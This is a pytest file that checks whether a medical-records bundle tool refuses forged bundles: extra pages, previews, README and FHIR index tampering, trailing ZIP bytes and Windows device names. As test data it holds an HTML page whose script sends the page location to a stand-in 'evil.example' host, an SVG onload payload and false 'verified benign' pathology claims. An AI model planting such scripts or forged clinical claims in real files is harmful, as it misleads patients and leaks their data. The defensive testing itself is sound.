"""Bundles forged by someone who holds only the specialist's public key: nothing they add
or change is ever extracted or shown as verified (see docs/trust-bundle.md).

Each forger here knows the format: after changing a tag file they rewrite
``tagmanifest-sha256.txt`` to match, as anyone can. Bundles are built with
recordpack's own age writer and zipfile; patients are invented.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from recordpack import age
from recordpack.bundle import format as fmt
from recordpack.bundle import policy
from recordpack.bundle.fhir import build_fhir_index
from recordpack.bundle.html import render_readme
from recordpack.bundle.index_model import parse_index_text
from recordpack.bundle.reader import (
    BundleVerificationError,
    NotARecordpackBundleError,
    inspect_bundle,
    open_bundle,
    verify_bundle,
)
from recordpack.cli import main
from recordpack.errors import RecordpackError
from tests import summary_folder as case
from tests.open_bundles import BAG, Sealer, bag_members, zip_bytes

FAKE_PAGE = (
    b"<html><body><h1>Second-opinion summary</h1><p>Pathology: benign. Verified by "
    b"recordpack.</p><script>new Image().src='https://evil.example/x?'+location</script>"
)
FAKE_README = b"These records were verified by recordpack. Pathology is BENIGN.\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def rehashed(members: dict[str, bytes], bag: str) -> dict[str, bytes]:
    """The forger's last step: a tag manifest listing every tag file as it now is."""
    prefix = f"{bag}/"
    tagmanifest = prefix + fmt.TAGMANIFEST
    tags = [
        name
        for name in members
        if name.startswith(prefix)
        and not name[len(prefix) :].startswith(fmt.PAYLOAD_DIR + "/")
        and name != tagmanifest
        and not name.endswith("/")
    ]
    members[tagmanifest] = "".join(
        f"{sha(members[name])}  {name[len(prefix):]}\n" for name in tags
    ).encode()
    return members


def refused(
    bundle: Any, identities: list[Any], dest: Path, error: type[RecordpackError], *words: str
) -> RecordpackError:
    """open and verify both refuse ``bundle`` naming every word; open writes nothing."""
    siblings = sorted(os.listdir(dest.parent))
    with pytest.raises(error) as opened:
        open_bundle(bundle, identities, dest)
    with pytest.raises(error) as verified:
        verify_bundle(bundle, identities)
    for caught in (opened.value, verified.value):
        for word in words:
            assert word in str(caught), str(caught)
    assert not dest.exists()
    assert sorted(os.listdir(dest.parent)) == siblings  # no temporary folder left either
    return opened.value


def cli(bundle: Path, key: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, [args[0], str(bundle), "-i", str(key), *args[1:]])
    return result.exit_code, result.stdout, result.stderr


def key_file(folder: Path, identity: Any) -> Path:
    path = folder / "key.txt"
    path.write_text(f"{identity}\n")
    return path


# ------------------------------------------------------------- a bundle pack really made


@pytest.fixture(scope="module")
def packed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A bundle pack made (records, a CT and an MR study with previews, another
    patient's record) and its members, decrypted."""
    made = case.pack_and_open(tmp_path_factory.mktemp("forged"))
    plain = age.decrypt(made["bundle"].read_bytes(), [made["identity"]])
    with zipfile.ZipFile(io.BytesIO(plain)) as archive:
        made["members"] = {i.filename: archive.read(i) for i in archive.infolist()}
    made["bag_name"] = made["index"]["bag"]
    return made


def forge(packed: dict[str, Any], folder: Path, change: Callable[[dict[str, bytes], str], None]) -> Path:
    """The packed bundle with ``change`` applied to its members, tag manifest rewritten."""
    members = dict(packed["members"])
    change(members, packed["bag_name"])
    rehashed(members, packed["bag_name"])
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 4, 10, 9, 30, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    bundle = folder / "forged.rpk"
    bundle.write_bytes(age.encrypt(out.getvalue(), [packed["identity"].recipient()]))
    return bundle


def test_what_pack_writes_opens_as_it_was_written(packed: dict[str, Any], tmp_path: Path) -> None:
    """The round trip: previews, README, index.fhir.json and a ZIP with no comment all
    pass every new check, and nothing is replaced or warned about."""
    result = open_bundle(packed["bundle"], [packed["identity"]], tmp_path / "opened")
    assert result.notices == () and not result.readme_replaced
    assert not result.index_html_replaced
    bag = packed["bag_name"]
    previews = sorted(n for n in packed["members"] if n.startswith(f"{bag}/{fmt.PREVIEWS_DIR}/"))
    assert previews  # the case has imaging, so the check of previews was exercised
    for name, data in packed["members"].items():
        assert (result.dest / name).read_bytes() == data, name


def test_a_page_listed_only_in_the_tag_manifest_is_refused(
    packed: dict[str, Any], tmp_path: Path
) -> None:
    """A 'START HERE' page beside index.html, with its tag manifest line: never extracted."""
    name = "START HERE - case summary.html"

    def add_page(members: dict[str, bytes], bag: str) -> None:
        members[f"{bag}/{name}"] = FAKE_PAGE

    bundle = forge(packed, tmp_path, add_page)
    refused(
        bundle,
        [packed["identity"]],
        tmp_path / "opened",
        BundleVerificationError,
        name,
        "neither listed in index.json nor a tag file recordpack writes",
    )
    code, out, _ = cli(bundle, key_file(tmp_path, packed["identity"]), "verify", "--json")
    document = json.loads(out)
    assert code == 1 and document["ok"] is False
    [problem] = document["problems"]
    assert problem["path"].endswith(name) and problem["code"] == "unexpected_file"


@pytest.mark.parametrize("preview", ["previews/999-999.png", "previews/evil.svg"])
def test_a_preview_the_index_does_not_name_is_refused(
    packed: dict[str, Any], tmp_path: Path, preview: str
) -> None:
    def add_preview(members: dict[str, bytes], bag: str) -> None:
        members[f"{bag}/{preview}"] = b"<svg onload='alert(1)'/>"

    refused(
        forge(packed, tmp_path, add_preview),
        [packed["identity"]],
        tmp_path / "opened",
        BundleVerificationError,
        preview,
        "a preview in the bundle that index.json does not name",
    )


def test_a_folder_entry_that_holds_no_listed_file_is_refused(tmp_path: Path) -> None:
    """An empty folder named to catch the eye is not extracted either."""
    folder = f"{BAG}/START HERE - verified/"
    seal = Sealer(tmp_path)
    bundle = seal(zip_bytes([*bag_members(), (folder, b"")]))
    refused(
        bundle,
        seal.identities,
        tmp_path / "opened",
        BundleVerificationError,
        "START HERE - verified",
        "folder entry that holds none of the files",
    )


# ------------------------------------------------------------- README.txt


def test_a_forged_readme_is_replaced_by_recordpacks_own_and_said_so(
    packed: dict[str, Any], tmp_path: Path
) -> None:
    def forge_readme(members: dict[str, bytes], bag: str) -> None:
        members[f"{bag}/{fmt.README_TXT}"] = FAKE_README

    bundle = forge(packed, tmp_path, forge_readme)
    identity = packed["identity"]
    assert "readme_replaced" in [n.code for n in verify_bundle(bundle, [identity]).notices]

    result = open_bundle(bundle, [identity], tmp_path / "opened")
    readme = (result.bag_dir / fmt.README_TXT).read_bytes()
    index = parse_index_text((result.bag_dir / fmt.INDEX_JSON).read_bytes())
    assert readme == render_readme(index).encode() and b"BENIGN" not in readme
    assert result.readme_replaced and not result.index_html_replaced

    key = key_file(tmp_path, identity)
    code, out, err = cli(bundle, key, "open", "-o", str(tmp_path / "by-cli"), "--json")
    assert code == 0, err
    document = json.loads(out)
    assert document["readme_replaced"] is True
    assert "readme_replaced" in [w["code"] for w in document["warnings"]]
    code, _, err = cli(bundle, key, "open", "-o", str(tmp_path / "by-cli-text"))
    assert code == 0 and "README.txt is not the one recordpack writes" in err


def test_a_pack_made_readme_is_kept(packed: dict[str, Any]) -> None:
    """The README in the opened folder is byte for byte the one pack wrote."""
    bag = packed["bag_name"]
    shipped = packed["members"][f"{bag}/{fmt.README_TXT}"]
    assert (packed["bag"] / fmt.README_TXT).read_bytes() == shipped


# ------------------------------------------------------------- index.fhir.json


def _fhir_change(patch: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, bytes], str], None]:
    def change(members: dict[str, bytes], bag: str) -> None:
        name = f"{bag}/{fmt.INDEX_FHIR}"
        document = json.loads(members[name])
        patch(document)
        members[name] = json.dumps(document).encode()

    return change


def _resources(document: dict[str, Any], kind: str) -> list[dict[str, Any]]:
    return [e["resource"] for e in document["entry"] if e["resource"]["resourceType"] == kind]


def _stranger(document: dict[str, Any]) -> None:
    patient = _resources(document, "Patient")[0]
    patient["name"] = [{"family": "STRANGER", "given": ["OTTO"]}]
    patient["birthDate"] = "1941-01-01"


def _other_identifier(document: dict[str, Any]) -> None:
    _resources(document, "Patient")[0]["identifier"] = [{"value": "MRN-OF-SOMEONE-ELSE"}]


def _study_uid(document: dict[str, Any]) -> None:
    _resources(document, "ImagingStudy")[0]["identifier"][0]["value"] = "urn:oid:1.2.3.4"


def _series_uid(document: dict[str, Any]) -> None:
    _resources(document, "ImagingStudy")[0]["series"][0]["uid"] = "1.2.3.4.5"


def _kind(document: dict[str, Any]) -> None:
    _resources(document, "DocumentReference")[0]["type"] = {"text": "Lab result"}


def _subject(document: dict[str, Any]) -> None:
    # Every record filed under the patient a possibly-foreign record names.
    patients = [e["fullUrl"] for e in document["entry"] if e["resource"]["resourceType"] == "Patient"]
    for resource in _resources(document, "DocumentReference"):
        resource["subject"] = {"reference": patients[-1]}


def _verdict(document: dict[str, Any]) -> None:
    _resources(document, "List")[0]["title"] = "Check: everything required is here"


def _added(document: dict[str, Any]) -> None:
    document["entry"].append(
        {
            "fullUrl": "urn:uuid:00000000-0000-4000-8000-000000000000",
            "resource": {"resourceType": "Observation", "status": "final", "valueString": "benign"},
        }
    )


def _gender(document: dict[str, Any]) -> None:
    _resources(document, "Patient")[0]["gender"] = "male"


def _timestamp(document: dict[str, Any]) -> None:
    document["timestamp"] = "1999-01-01T00:00:00Z"


def _bundle_statement(document: dict[str, Any]) -> None:
    document["meta"] = {"tag": [{"display": "verified benign"}]}


def _duplicate(document: dict[str, Any]) -> None:
    document["entry"].append(document["entry"][0])


def _dropped_patient(document: dict[str, Any]) -> None:
    document["entry"] = [e for e in document["entry"] if e["resource"]["resourceType"] != "Patient"]


@pytest.mark.parametrize(
    ("patch", "words"),
    [
        (_stranger, "its Patient differs from index.json (name, birthDate)"),
        (_other_identifier, "its Patient differs from index.json (identifier)"),
        (_study_uid, "differs from index.json (identifier)"),
        (_series_uid, "differs from index.json (series)"),
        (_kind, "differs from index.json (type)"),
        (_subject, "differs from index.json (subject)"),
        (_verdict, "its check result (List) differs from index.json (title)"),
        (_added, "holds 1 resource(s) that index.json does not give"),
        (_dropped_patient, "lacks the Patient that index.json gives"),
        (_gender, "its Patient differs from index.json (statements index.json does not make)"),
        (_timestamp, "its Bundle timestamp differs from index.json"),
        (_bundle_statement, "its Bundle makes statements index.json does not"),
        (_duplicate, "holds an entry recordpack does not write"),
    ],
    ids=[
        "patient-name-and-birth-date",
        "patient-identifier",
        "study-uid",
        "series-uid",
        "record-kind",
        "record-subject",
        "check-verdict",
        "added-resource",
        "dropped-patient",
        "patient-gender-added",
        "bundle-timestamp",
        "bundle-meta-added",
        "duplicate-entry",
    ],
)
def test_a_fhir_index_that_disagrees_with_index_json_is_refused(
    packed: dict[str, Any], tmp_path: Path, patch: Callable[[dict[str, Any]], None], words: str
) -> None:
    error = refused(
        forge(packed, tmp_path, _fhir_change(patch)),
        [packed["identity"]],
        tmp_path / "opened",
        BundleVerificationError,
        fmt.INDEX_FHIR,
        words,
    )
    assert isinstance(error, BundleVerificationError)
    assert {p.code for p in error.problems} == {"fhir_mismatch"}


def test_the_fhir_index_pack_writes_is_what_open_compares_with(packed: dict[str, Any]) -> None:
    bag = packed["bag_name"]
    shipped = json.loads(packed["members"][f"{bag}/{fmt.INDEX_FHIR}"])
    index = json.loads(packed["members"][f"{bag}/{fmt.INDEX_JSON}"])
    assert _resources(shipped, "Patient")[0]["name"] == [{"text": index["patient"]["name"]}]
    assert shipped == build_fhir_index(index)


# ------------------------------------------------------------- the end of the ZIP


def test_bytes_after_the_end_of_the_zip_are_refused(tmp_path: Path) -> None:
    seal = Sealer(tmp_path)
    bundle = seal(zip_bytes(list(bag_members())) + b"HIDDEN DATA AFTER THE ZIP " * 40)
    refused(
        bundle,
        seal.identities,
        tmp_path / "opened",
        BundleVerificationError,
        "has bytes after the end of its ZIP archive",
    )


def test_a_zip_comment_is_refused(tmp_path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in bag_members():
            archive.writestr(name, data)
        archive.comment = b"call 555-0100 for the real results"
    seal = Sealer(tmp_path)
    refused(
        seal(out.getvalue()),
        seal.identities,
        tmp_path / "opened",
        BundleVerificationError,
        "carries a ZIP comment of 34 bytes, which recordpack never writes",
    )


# ------------------------------------------------------------- a ZIP inside the ZIP


def test_a_zip_inside_the_zip_is_named_in_plain_words(tmp_path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("bundle.zip", zip_bytes(list(bag_members())))
    seal = Sealer(tmp_path)
    bundle = seal(out.getvalue())
    refused(
        bundle,
        seal.identities,
        tmp_path / "opened",
        NotARecordpackBundleError,
        "holds no recordpack bag folder, only bundle.zip",
    )
    with pytest.raises(NotARecordpackBundleError):
        inspect_bundle(bundle, seal.identities)
    key = key_file(tmp_path, seal.identities[0])
    for command in ("open", "verify", "inspect"):
        args = [command, "--json"] + (["-o", str(tmp_path / "opened")] if command == "open" else [])
        code, out_json, err = cli(bundle, key, *args)
        document = json.loads(out_json)
        assert code == 1 and document["ok"] is False, err
        error = document["error"]
        assert "bundle.zip" in error["message"] and "None" not in error["message"]
        assert "not a recordpack bundle" in error["hint"]
        code, _, err = cli(bundle, key, *[a for a in args if a != "--json"])
        assert code == 1 and "None" not in err and "bundle.zip" in err, err


# ------------------------------------------------------------- open on Windows


@pytest.mark.parametrize("part", ["COM\u00b9.zip", "COM0", "nul .txt", "LPT\u00b3.pdf", "conin$"])
def test_open_on_windows_refuses_every_device_name(
    part: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Windows would write these to a device, not a file: open there refuses them."""
    with monkeypatch.context() as patched:
        patched.setattr(os, "name", "nt")
        reason = policy.path_problem(f"data/records/{part}")
    assert reason is not None and "cannot be a file name on Windows" in reason


@pytest.mark.parametrize("part", ["COM10.zip", "console.txt", "nul_.txt", "CON_.zip", "aux-x.pdf"])
def test_open_on_windows_accepts_names_that_only_look_like_devices(
    part: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Among them the names pack's layout gives device names (``CON_.zip``)."""
    with monkeypatch.context() as patched:
        patched.setattr(os, "name", "nt")
        reason = policy.path_problem(f"data/records/{part}")
    assert reason is None
